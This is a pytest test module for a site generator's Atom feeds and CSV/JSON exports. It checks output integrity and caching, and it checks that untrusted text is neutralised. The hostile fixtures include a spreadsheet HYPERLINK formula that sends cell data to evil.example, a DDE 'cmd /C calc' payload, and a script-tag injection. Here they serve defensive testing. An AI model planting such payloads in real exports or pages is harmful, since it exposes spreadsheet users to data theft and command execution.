"""Feeds and exports: Atom feeds that a feed parser reads, CSV and JSON that load and
match the briefs, and untrusted text that stays text in every one of them."""

from __future__ import annotations

import csv
import io
import json

import feedparser
import pytest
import yaml
from typer.testing import CliRunner

from generator.cli import app
from generator.site.exports import columns, csv_cell, exported

from .hostile import make_hostile_project
from .test_site import briefs_of


def _csv(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_exports_load_and_match_the_briefs(seed_site):
    exports, briefs = seed_site / "site" / "exports", briefs_of(seed_site)
    for section in exported():
        expected = sorted((b.id, item.id) for b in briefs for item in getattr(b, section))
        table, records = _csv(exports / f"{section}.csv"), json.loads((exports / f"{section}.json").read_text())
        assert expected and sorted((r["brief_id"], r["id"]) for r in table) == expected
        assert sorted((r["brief_id"], r["id"]) for r in records) == expected
        assert list(table[0]) == columns(section) == list(records[0])
    figures = {(r["brief_id"], r["id"]): r for r in json.loads((exports / "figures.json").read_text())}
    for brief in briefs:
        for figure in brief.figures:
            assert figures[(brief.id, figure.id)]["value"] == figure.value


def test_topic_exports_hold_only_that_topics_items(seed_site):
    exports = seed_site / "site" / "exports"
    everything = {(r["brief_id"], r["id"]) for r in _csv(exports / "claims.csv")}
    topic_files = sorted((exports / "topics").glob("*/claims.csv"))
    assert topic_files
    for path in topic_files:
        assert {(r["brief_id"], r["id"]) for r in _csv(path)} <= everything


def test_feeds_parse_and_hold_their_briefs(seed_site):
    feeds, briefs = seed_site / "site" / "feeds", briefs_of(seed_site)
    digest = feedparser.parse((feeds / "digest.xml").read_bytes())
    assert not digest.bozo, digest.bozo_exception
    assert sorted(e.title for e in digest.entries) == sorted(" ".join(b.title.split()) for b in briefs)
    for topic_feed in sorted((feeds / "topics").glob("*.xml")):
        parsed = feedparser.parse(topic_feed.read_bytes())
        on_topic = [b for b in briefs if topic_feed.stem in b.topics]
        assert not parsed.bozo and len(parsed.entries) == len(on_topic), topic_feed.name
    actor_feeds = sorted((feeds / "actors").glob("*.xml"))
    assert actor_feeds and all(not feedparser.parse(p.read_bytes()).bozo for p in actor_feeds)
    topic = next((seed_site / "site" / "topics").glob("*/index.html")).read_text(encoding="utf-8")
    assert 'type="application/atom+xml"' in topic and "/exports/topics/" in topic


def test_a_formula_in_any_cell_is_neutralised():
    for formula in ('=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(formula).startswith("'")
    assert csv_cell("Growth of 3%") == "Growth of 3%" and csv_cell(-2.5) == -2.5 and csv_cell(5e9) == 5000000000


@pytest.mark.parametrize("separator", [";", ",", "\t", "|", "; ", ",\t "])
def test_a_formula_after_any_separator_a_spreadsheet_may_split_on_is_neutralised(separator):
    """`outlet: "x;=1+1;y"` opened by a spreadsheet that splits on semicolons ran =1+1."""
    import csv
    import io

    from generator.site.exports import FORMULA_STARTS, SEPARATORS

    cell = csv_cell(f"x{separator}=1+1{separator}@SUM(A1){separator}y")
    for split_on in SEPARATORS:
        for piece in cell.split(split_on):
            assert not piece.strip(" \t").startswith(FORMULA_STARTS[:4]), (split_on, piece)
    row = io.StringIO()
    csv.writer(row, quoting=csv.QUOTE_NONNUMERIC).writerow([cell, 3])
    assert row.getvalue().startswith('"')  # and every text cell is quoted


def test_hostile_text_stays_text_in_feeds_and_exports(tmp_path):
    root = make_hostile_project(tmp_path)
    brief_path = root / "content" / "briefs" / "hostile-0.yml"
    brief = yaml.safe_load(brief_path.read_text(encoding="utf-8"))
    brief["claims"][0]["text"] = '=HYPERLINK("http://evil.example/steal?"&A1,"click")'
    brief["claims"][0]["verb"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    brief["summary"] = "Bell \x07 and form feed \x0c in the summary </summary><script>alert(1)</script>"
    brief_path.write_text(yaml.safe_dump(brief, sort_keys=False, allow_unicode=True), encoding="utf-8")
    result = CliRunner().invoke(app, ["build", "--strict", "--no-extract", "--project", str(root)])
    assert result.exit_code == 0, result.output
    site = root / "site"
    claims = {(r["brief_id"], r["id"]): r for r in _csv(site / "exports" / "claims.csv")}
    row = claims[("hostile-0", "c-one")]
    assert row["text"].startswith("'=HYPERLINK") and row["verb"].startswith("'@SUM")
    assert not any(value.startswith(("=", "+", "@")) for r in claims.values() for value in r.values())
    for path in (site / "exports").rglob("*.json"):
        text = path.read_text(encoding="utf-8")
        assert "<" not in text and ">" not in text
        json.loads(text)
    for path in (site / "feeds").rglob("*.xml"):
        parsed = feedparser.parse(path.read_bytes())
        assert not parsed.bozo, (path.name, parsed.bozo_exception)
        assert "<script" not in path.read_text(encoding="utf-8")
    digest = feedparser.parse((site / "feeds" / "digest.xml").read_bytes())
    summary = next(e.summary for e in digest.entries if "hostile-0" in e.link)
    assert "</summary><script>alert(1)</script>" in summary  # the text, kept as text


def test_exports_read_back_per_brief_equal_exports_made_whole(tmp_path, monkeypatch):
    """Each brief's lines are read back while the brief and the names it shows are what they
    were; an actor renamed in the registry is renamed in every line that names it."""
    import copy

    import generator.site.exports as exports
    from generator.content.briefs import read_briefs
    from generator.content.merge import build_digest
    from generator.content.registry import load_registries
    from generator.core.project import Project
    from generator.core.store import ResultCache

    from .conftest import copy_of_repository

    project = Project(copy_of_repository(tmp_path / "repo"))
    registries, _ = load_registries(project)
    briefs, _ = read_briefs(project.briefs, project.root)
    digest = build_digest(registries, briefs)
    cache = ResultCache(tmp_path / "exports")
    whole = exports.export_files(digest)
    assert exports.export_files(digest, cache) == whole
    made = []
    csv_line = exports.csv_line
    monkeypatch.setattr(exports, "csv_line", lambda row: made.append(1) or csv_line(row))
    assert exports.export_files(digest, cache) == whole and made == []

    speaker = next(digest.actor(b, c.speaker) for b in briefs for c in b.claims if digest.actor(b, c.speaker))
    renamed = copy.deepcopy(registries)
    entry = next(a for a in renamed.actors if a.id == speaker.id)  # the seed registry names every speaker
    entry.name = "Quillon Varr Holdings"
    digest = build_digest(renamed, briefs)
    expected = exports.export_files(digest)
    made.clear()
    again = exports.export_files(digest, cache)
    assert again == expected and "Quillon Varr Holdings" in again["exports/claims.csv"]
    # only the briefs that name the renamed actor are formatted again, not the digest
    assert 0 < len(made) < sum(len(b.claims) + len(b.figures) + len(b.scenarios) for b in briefs)


def test_feeds_read_back_until_what_an_entry_shows_changes(tmp_path, monkeypatch):
    """A feed is made again only when one of its entries shows something else (a summary
    edited); a claim edited changes no feed, and a feed read back equals one made whole."""
    import generator.site.feeds as feeds
    from generator.content.briefs import read_briefs
    from generator.content.merge import build_digest
    from generator.content.registry import load_registries
    from generator.core.project import Project
    from generator.core.store import ResultCache

    from .conftest import copy_of_repository

    project = Project(copy_of_repository(tmp_path / "repo"))
    registries, _ = load_registries(project)
    briefs, _ = read_briefs(project.briefs, project.root)
    cache = ResultCache(tmp_path / "feeds")
    whole = feeds.feed_files(build_digest(registries, briefs), "https://digest.example/")
    assert feeds.feed_files(build_digest(registries, briefs), "https://digest.example/", cache) == whole
    made = []
    feed = feeds._feed
    monkeypatch.setattr(feeds, "_feed", lambda *args: made.append(args[2]) or feed(*args))
    claim_edited = [
        b.model_copy(update={"claims": [c.model_copy(update={"text": "Reworded."}) for c in b.claims]}) for b in briefs
    ]
    assert feeds.feed_files(build_digest(registries, claim_edited), "https://digest.example/", cache) == whole
    assert made == []
    edited = [briefs[0].model_copy(update={"summary": "A summary an editor rewrote."}), *briefs[1:]]
    expected = feeds.feed_files(build_digest(registries, edited), "https://digest.example/")
    made.clear()
    again = feeds.feed_files(build_digest(registries, edited), "https://digest.example/", cache)
    assert again == expected and "A summary an editor rewrote." in again["feeds/digest.xml"]
    assert "feeds/digest.xml" in made and 0 < len(made) < len(whole)
